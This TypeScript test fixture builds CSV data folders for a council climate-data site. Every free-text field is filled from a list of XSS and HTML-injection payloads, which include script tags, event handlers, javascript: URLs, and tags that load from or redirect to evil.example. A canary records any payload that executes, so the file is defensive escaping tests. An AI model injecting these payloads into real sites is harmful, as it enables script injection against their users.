// A source folder with hostile text in every field that accepts free text, and the same folder with harmless letters.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll } from 'vitest';
import { slugOf } from '../../../src/engine/text/slug.ts';
import { PIECES } from '../../support/awkward-cells.ts';
import {
  COMMITMENTS_HEADER,
  COUNCILS_HEADER,
  COUNTS_HEADER,
  EMERGENCIES_HEADER,
  PLANS_HEADER,
  quotedRow,
} from '../../support/source.ts';
import type { SiteSource } from './sites.ts';

/** If the browser ran any of this text, `canary` would record it. */
export const PAYLOADS: readonly string[] = [
  '<script>canary("script")</script>',
  '"><script src=https://evil.example/x.js></script>',
  "'><img src=https://evil.example/x.png onerror=canary(1)>",
  '<svg/onload=canary(2)>',
  '</pre></code></main></body><iframe src=https://evil.example/></iframe>',
  '</title><script>canary(3)</script>',
  '</textarea></style></noscript><a href="javascript:canary(4)">press</a>',
  '<style>@import url(https://evil.example/x.css); * { display: none }</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example/><input autofocus onfocus=canary(5)>',
  '<details open ontoggle=canary(6)><summary>x</summary>',
  '<object data="data:text/html,<script>canary(7)</script>"></object>',
  '" autofocus onfocus="canary(8)" x="',
  "' onmouseover='canary(9)",
  '<!-- no end',
  '--> <![CDATA[ <?php ]]>',
  '<plaintext>',
  '{{title}} {{main}} {{body}} {{{x}}} $& $1 $`',
  '&lt;script&gt;canary(10)&lt;/script&gt; &#60;b&#62; &amp;amp;',
  'javascript:canary(11)',
  'https://evil.example/',
  '//evil.example/',
  'data:text/html,<script>canary(12)</script>',
  '\\u003cscript\\u003ecanary(13)\\u003c/script\\u003e',
  '%3Cscript%3Ecanary(14)%3C/script%3E',
  '`code` **bold** [link](javascript:canary(15))',
  'x\u202etxet\u202c \u200b\u2028\u2029 \ud83d\udc69\u200d\ud83d\ude92 ﷽',
  `${'W'.repeat(300)}`,
  `pieces ${PIECES.filter((piece) => !/[\p{Cc}\p{Cs}\ufeff]/u.test(piece)).join('|')} end`,
];

/** The same number of lines of letters, which differ from all other texts. */
const calmed = (text: string, index: number): string =>
  text.replace(
    /[^\n]+/g,
    `calm ${[...String(index)].map((digit) => String.fromCharCode(97 + Number(digit))).join('')}`,
  );

const codeOf = (index: number): string =>
  `X${String.fromCharCode(65 + Math.floor(index / 26))}${String.fromCharCode(65 + (index % 26))}`;

/** Rows of CSV with their header. */
const table = (header: string, rows: readonly (readonly string[])[]): string =>
  [header, ...rows.map(quotedRow)].map((line) => `${line}\n`).join('');

/** A source folder, deleted after the last test in a file. @param isCalm whether to replace all hostile text with letters */
export function hostileSource(isCalm: boolean): SiteSource {
  const texts = PAYLOADS.map((payload, index) => (isCalm ? calmed(payload, index) : payload));
  const data = mkdtempSync(path.join(tmpdir(), 'council-climate-api-hostile-'));
  afterAll(() => rmSync(data, { recursive: true, force: true }));
  const address = (text: string) => `https://x.example/${isCalm ? 'x' : `?q=${text.replace(/\s/g, '')}`}`;
  // Pages are named after the types of plans, so the harmless types must have the same names in paths.
  const typeFor = (text: string, index: number) => (isCalm ? slugOf(PAYLOADS[index]!).replaceAll('-', ' ') : text);
  const two = (text: string) => `${text}\n${text}`;
  // An additional council without any data, whose name comes last, even without its symbols.
  const councils = [...texts, '😀😀'].map((name, index) => [
    ...[codeOf(index), name, `council-${index}`, address(index === texts.length ? 'x' : name)],
    ...[`E06${String(index).padStart(6, '0')}`, 'England', 'Unitary Authority'],
  ]);
  const tables = {
    councils: table(COUNCILS_HEADER, councils),
    commitments: table(
      COMMITMENTS_HEADER,
      texts.map((text, index) => [codeOf(index), 'true', '2030', 'Whole area', two(text), address(text), two(text)]),
    ),
    plans: table(
      PLANS_HEADER,
      texts.map((text, index) => [codeOf(index), text, typeFor(text, index), '2021-05-06']),
    ),
    emergencies: table(
      EMERGENCIES_HEADER,
      texts.map((_, index) => [codeOf(index), '2019-05-01']),
    ),
    searches: table(
      COUNTS_HEADER,
      texts.map((text, index) => ['2025-01-02', text, '3', `"${text}"`, String(1000 - index)]),
    ),
  };
  for (const [name, content] of Object.entries(tables)) writeFileSync(path.join(data, `${name}.csv`), content);
  return { data, options: siteOptions(texts, isCalm), links: 'query' };
}

const siteOptions = (texts: readonly string[], isCalm: boolean): SiteSource['options'] => ({
  title: `Title ${texts[0]}`,
  description: `Description ${texts[1]} ${texts[19]}`,
  licence: {
    name: `Licence ${texts[2]}`,
    url: isCalm ? 'https://l.example/' : 'https://l.example/?"><script>canary(20)</script>',
  },
  contact: isCalm ? 'mailto:a@b.example' : 'mailto:a@b.example?subject="><script>canary(21)</script>',
  texts: { about: texts, footer: `Footer ${texts[5]}` },
  checkPage: true,
  pageSizes: { commitments: 10, searchterms: 10 },
  dates: { dateRangeDays: 1, openEndedDays: 1, months: false, quarters: false },
});
